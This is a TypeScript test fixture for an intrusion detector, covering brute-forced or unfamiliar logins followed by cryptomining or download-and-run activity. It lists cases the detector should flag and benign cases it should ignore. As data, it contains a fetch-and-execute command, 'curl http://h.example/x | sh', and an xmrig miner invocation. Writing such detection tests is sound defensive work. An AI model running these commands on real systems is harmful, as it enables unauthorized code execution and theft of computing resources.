import { acted, at, loggedIn, started } from '../../../tests/entry-story.ts';
import type { DetectorFixture } from '../../../tests/fixture.ts';

const mining = { command: './xmrig -o pool.example.com:3333', why: ['mines'] as ['mines'] };
const guessed = { after: { failures: 80, accounts: 4, seconds: 600 } };

export const fixture: DetectorFixture = {
  fires: [
    {
      name: 'a login after many failures, and a miner',
      seen: [loggedIn(0, guessed), started(300, mining)],
      stage: 'capability',
    },
    { name: 'a login after many failures', seen: [loggedIn(0, guessed)], stage: 'mention' },
    {
      name: 'a login from a new place, and a download that runs',
      seen: [
        loggedIn(0, { newHere: true, account: 'anna' }),
        started(120, { command: 'curl http://h.example/x | sh', user: 'WEB1\\anna' }),
      ],
      stage: 'mention',
    },
    {
      name: 'a login from a new place, and a miner by the number of an account of people',
      seen: [loggedIn(0, { newHere: true, account: 'ubuntu' }), started(60, { ...mining, user: '1000' })],
      stage: 'capability',
    },
    {
      name: 'a few failures, and a miner',
      seen: [loggedIn(0, { after: { failures: 6, seconds: 30 }, newHere: true }), started(60, mining)],
      stage: 'capability',
    },
  ],
  silent: [
    {
      name: 'a key that fits, whoever fails to guess a password behind the same address',
      seen: [loggedIn(0, { ...guessed, method: 'publickey' })],
    },
    {
      name: 'what another account did after a first login from somewhere',
      seen: [
        loggedIn(0, { newHere: true, account: 'anna' }),
        started(60, { ...mining, user: 'bob' }),
        started(60, { ...mining, user: '0' }),
        started(60, mining),
      ],
    },
    {
      name: 'what came no longer within minutes of a first login from somewhere',
      seen: [loggedIn(0, { newHere: true }), started(1800, { ...mining, user: 'root' })],
    },
    {
      name: 'what followed a later login from a place that was new once',
      seen: [
        loggedIn(0, { newHere: true, times: 40, end: at(40 * 86_400) }),
        started(40 * 86_400 + 60, { ...mining, user: 'root' }),
      ],
    },
    {
      name: "what a package's script started, whoever installed it",
      seen: [
        loggedIn(0, { newHere: true, account: 'anna' }),
        started(60, { why: ['fetches', 'package-script'], user: 'anna' }),
      ],
    },
    { name: 'an owner who mistypes', seen: [loggedIn(0, { after: { failures: 6, seconds: 30 } })] },
    { name: 'an owner who travels', seen: [loggedIn(0, { newHere: true })] },
    { name: 'an owner who installs from where he always comes', seen: [loggedIn(0, { newHere: false }), started(60)] },
    {
      name: 'what a service started',
      seen: [loggedIn(0, { newHere: true }), started(60, { why: ['child-of-service', 'mines'], service: 'php' })],
    },
    { name: 'failures', seen: [loggedIn(0, { outcome: 'failed', times: 9000 }), started(60, mining)] },
    {
      name: 'a container of the day after',
      seen: [loggedIn(0, { newHere: true }), acted(90_000, { action: 'container-made', carries: 'miner' })],
    },
  ],
};
